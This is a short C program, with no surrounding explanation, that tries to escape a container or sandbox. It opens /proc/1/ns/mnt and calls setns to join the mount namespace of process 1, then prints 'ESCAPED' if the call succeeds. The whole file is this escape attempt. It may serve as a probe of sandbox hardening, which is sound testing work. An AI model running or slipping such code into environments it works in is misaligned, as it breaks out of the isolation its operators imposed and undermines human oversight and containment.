/* The namespace of the first process. */
#define _GNU_SOURCE
#include <stdio.h>
#include <fcntl.h>
#include <sched.h>

int main(void) {
    long got = setns(open("/proc/1/ns/mnt", O_RDONLY), 0);
    if (got < 0) return 1;
    puts("ESCAPED");
}
